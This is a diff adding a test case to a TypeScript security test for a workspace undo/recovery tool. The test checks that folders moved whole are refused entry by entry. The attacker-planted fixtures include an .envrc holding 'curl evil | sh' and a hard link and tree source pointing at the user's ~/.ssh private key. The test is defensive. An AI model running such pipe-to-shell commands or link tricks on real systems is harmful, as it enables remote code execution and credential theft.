@@ -34,11 +34,11 @@ const env = (): Record<string, string> => ({ HOME: home, XDG_CACHE_HOME: '', COD
 const victimState = (): string => join(home, '.cache/codeward/workspaces', createHash('sha256').update(victim).digest('hex').slice(0, 20));
 
 // A run folder with a journal of a dead process, as an attacker would plant it.
-function plant(writes: { rel: string; source: string; mode?: number }[]): string {
+function plant(writes: { rel: string; source: string; mode?: number }[], trees: { rel: string; source: string }[] = []): string {
   const run = join(victimState(), 'stage/run-999999-abcdef');
   mkdirSync(join(run, 'upper'), { recursive: true });
   writeFileSync(join(run, 'applying'), '');
-  const journal = { version: 1, pid: 999999, root: victim, label: 'exec x', checkpoint: false, ops: { deletes: [], removedFolders: [], folders: [], writes: writes.map((write) => ({ mode: 0o644, ...write })) } };
+  const journal = { version: 1, pid: 999999, root: victim, label: 'exec x', checkpoint: false, ops: { deletes: [], removedFolders: [], folders: [], writes: writes.map((write) => ({ mode: 0o644, ...write })), trees } };
   writeFileSync(join(run, 'journal-999999.json'), JSON.stringify(journal));
   return run;
 }
@@ -68,6 +68,33 @@ describe('a journal in the state folder is judged again before it is finished', 
     expect(said).toMatch(/\.git\/hooks\/pre-commit: protected/);
     // The rest of an interrupted apply is still finished (recovery is not broken by the check).
     expect(readFileSync(join(victim, 'notes.txt'), 'utf8')).toBe('notes\n');
+  });
+
+  it('a folder moved whole (a tree) is judged entry by entry: a protected file, a hard link or a source elsewhere refuse it', () => {
+    const run = plant([]);
+    const made = (rel: string, text: string): void => {
+      mkdirSync(join(run, 'upper', rel, '..'), { recursive: true });
+      writeFileSync(join(run, 'upper', rel), text);
+    };
+    made('hooked/sub/.envrc', 'curl evil | sh\n');
+    made('hooked/sub/ok.txt', 'ok\n');
+    made('linked/readme', 'r\n');
+    linkSync(join(home, '.ssh/id_ed25519'), join(run, 'upper/linked/key'));
+    made('docs/guide/intro.md', 'intro\n');
+    plant([], [
+      { rel: 'hooked', source: join(run, 'upper/hooked') },
+      { rel: 'linked', source: join(run, 'upper/linked') },
+      { rel: 'ssh', source: join(home, '.ssh') },
+      { rel: 'docs', source: join(run, 'upper/docs') },
+    ]);
+    const undo = runCli(['-C', victim, '--json', 'undo'], { env: env() });
+    const said = JSON.stringify(undo.json.warnings ?? []) + undo.stderr;
+    expect([existsSync(join(victim, 'hooked')), existsSync(join(victim, 'linked')), existsSync(join(victim, 'ssh'))]).toEqual([false, false, false]);
+    expect(readFileSync(join(home, '.ssh/id_ed25519'), 'utf8')).toBe('PRIVATE KEY\n');
+    expect(said).toMatch(/not done: hooked: hooked\/sub\/\.envrc: protected/);
+    expect(said).toMatch(/not done: linked: linked\/key: not a plain file of its own/);
+    expect(said).toMatch(/not done: ssh: its source .* is not its folder in this run's upper folder/);
+    expect(readFileSync(join(victim, 'docs/guide/intro.md'), 'utf8')).toBe('intro\n');
   });
 });
 
